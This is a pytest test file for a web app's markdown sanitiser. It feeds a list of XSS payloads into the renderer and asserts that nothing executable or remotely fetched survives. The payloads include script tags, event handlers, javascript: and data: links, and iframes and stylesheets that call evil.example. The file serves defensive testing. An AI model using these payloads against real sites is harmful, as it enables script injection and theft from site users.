"""Rich text: what people write is shown; nothing runs and nothing is fetched."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from almacontact.web.richtext import ATTRIBUTES, CLASSES, LIMIT, TAGS, is_safe_link, plain, problems, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/p.png'>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "<math><mi xlink:href='data:x'>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x.swf'></object><embed src=x>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<p style="background:url(https://evil.example/x)">hola</p>',
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=https://evil.example><input name=x></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<!-- <script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<b onmouseover=alert(1)>**negrita**</b>",
    "**<b>x</b>**",
    "> <script>alert(1)</script>",
    "- uno\n  <iframe src=x>",
    "| a | b |\n|---|---|\n| <img src=x> | y |",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](http://evil.example)",
    "[x](//evil.example)",
    "[x](/accounts/people/)",
    "[x](#top)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "<http://evil.example/>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]: http://evil.example 'nunca usado'",
    "![x](https://evil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x]\n\n[x]: https://evil.example/x.png",
    "[![x](https://evil.example/x.png)](https://almacontact.example)",
    "factura\u202egnp.exe",
    "\u2066oculto\u2069",
    "nulo\0nulo",
    "a\u0007b",
]

GOOD = """# Alcance
Atendemos **voz** y *chat*, ~~correo~~, con AHT < 180 s y `TMO`.

## Horario
1. Lunes a viernes
2. Sábado

- Uno
  - Dos

> Cita

| Canal | Puestos |
|-------|--------:|
| Voz   | 40      |

---
Vea [nuestra página](https://almacontact.example/a?b=1&c=2) o <ventas@almacontact.example>.
"""


class Reader(HTMLParser):
    """Reads what a browser would find, and fails at anything that is not allowed."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        for name, value in attrs:
            allowed = {*ATTRIBUTES.get(tag, ()), *(("rel",) if tag == "a" else ())}
            if name == "class":
                assert value in CLASSES.get(tag, ()), value
            else:
                assert name in allowed, (tag, name)
            if name == "href":
                assert is_safe_link(value), value

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def read(html: str) -> None:
    reader = Reader(convert_charrefs=True)
    reader.feed(html)
    reader.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_would_run_or_be_fetched_is_named_and_never_reaches_a_page(attack):
    assert problems(f"Antes.\n\n{attack}\n\nDespués."), attack
    html = render(f"Antes.\n\n{attack}\n\nDespués.")
    read(html)
    assert "<p>Antes.</p>" in html
    assert not set(html) & {"\0", "\u202e", "\u2066", "\u2069", "\u0007"}


def test_good_prose_has_no_problems_and_keeps_its_shape():
    assert problems(GOOD) == []
    html = render(GOOD)
    read(html)
    for piece in (
        "<h3>Alcance</h3>",
        "<h4>Horario</h4>",
        "<strong>voz</strong>",
        "<s>correo</s>",
        "AHT &lt; 180 s",
        "<blockquote>",
        '<th scope="col">Canal</th>',
        '<td class="text-end">40</td>',
        'href="https://almacontact.example/a?b=1&amp;c=2"',
        'rel="noopener noreferrer"',
        'href="mailto:ventas@almacontact.example"',
    ):
        assert piece in html, piece


@pytest.mark.parametrize("marks", ["#", "##", "####"])
def test_the_biggest_heading_of_a_body_is_the_third_level(marks):
    assert render(f"{marks} Uno\n\n{marks}# Dos") == "<h3>Uno</h3>\n<h4>Dos</h4>\n"


def test_a_problem_names_its_line_and_stands_at_the_field():
    text = "Uno\ndos\n\n- tres\n- [cuatro](http://x.example)\n\nseis <b>siete</b>\r\nocho ![n](https://x.example/n.png)"
    found = problems(text, field="body")
    assert [one.code for one in found] == ["text_link", "text_html", "text_image"]
    assert [number for one in found for number in ("5", "7", "8") if number in str(one.message)] == ["5", "7", "8"]
    assert {one.field for one in found} == {"body"}


def test_entities_are_words_and_never_become_tags():
    assert problems("&lt;script&gt; y &amp;") == []
    assert render("&lt;script&gt;alert(1)&lt;/script&gt;") == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"


def test_a_long_text_is_refused_in_words_and_shown_only_in_part():
    assert problems("á" * (LIMIT // 2)) == []
    (blocker,) = problems("á" * (LIMIT // 2 + 1))
    assert blocker.code == "text_too_long"
    assert len(render("a" * (LIMIT + 5000))) < LIMIT + 20


def test_the_words_alone_are_what_a_reader_hears():
    assert plain("# Uno\n\n**dos** [tres](https://x.example)\ncuatro\n\n| a | b |\n|---|---|\n| c | d |") == (
        "Uno\ndos tres\ncuatro\na\tb\nc\td"
    )


HEAVY = [
    "[",
    "![",
    "*a",
    "**a *b",
    "`",
    "<",
    "> ",
    "- ",
    "[a](",
    "[](",
    "&",
    "a\n",
    "[`",
    "~~a ",
    "_a ",
    "<https://a",
    "[a]: x\n",
    "(" * 9 + "\n",
    "> - ",
    "a|b\n-|-\n",
]


@pytest.mark.parametrize("piece", HEAVY)
def test_a_pathological_text_is_answered_at_once(piece):
    text = (piece * LIMIT)[: LIMIT // 8]
    started = time.process_time()
    read(render(text))
    problems(text)
    assert time.process_time() - started < 2


HUGE_TABLES = {
    "wide and long": "|a" * 800 + "\n" + "|-" * 800 + "\n" + "|\n" * 8_000,
    "of one column": "|a|\n---\n" + "x\n" * 20_000,
    "in a quotation": "> |a|b|\n> |-|-|\n" + "> |x|y|\n" * 6_000,
    "many small ones": "|a|b|\n|-|-|\n|x|y|\n\n" * 1_500,
}


@pytest.mark.parametrize("text", HUGE_TABLES.values(), ids=HUGE_TABLES.keys())
def test_more_cells_than_fit_are_refused_in_words_and_shown_as_the_lines_they_are(text):
    started = time.process_time()
    assert [one.code for one in problems(text, field="body")] == ["text_table"]
    assert "<table" not in render(text)
    plain(text)
    assert time.process_time() - started < 1


def test_a_large_table_of_an_offer_fits():
    text = (
        "Tarifas\n\n" + "|a" * 12 + "\n" + "|-" * 12 + "\n" + ("|1" * 12 + "\n") * 300 + "\nFin\n\n---\n" + "x\n" * 300
    )
    assert not problems(text)
    assert render(text).count("<tr>") == 301


def test_lists_inside_lists_stop_at_a_depth_that_is_said():
    text = "".join(f"{'  ' * depth}- nivel\n" for depth in range(30))
    assert {one.code for one in problems(text)} == {"text_nested"}
    read(render(text))


_PIECES = st.sampled_from(
    [*ATTACKS, *GOOD.splitlines(), "<", ">", "&", '"', "'", "[", "](", ")", "`", "|", "\n", "\n\n", "javascript:", "**"]
)


@settings(max_examples=150, deadline=None)
@given(st.one_of(st.text(max_size=300), st.lists(_PIECES, max_size=12).map("".join)))
def test_whatever_is_written_only_allowed_tags_and_attributes_come_out(text):
    read(render(text))
    problems(text)
    plain(text)
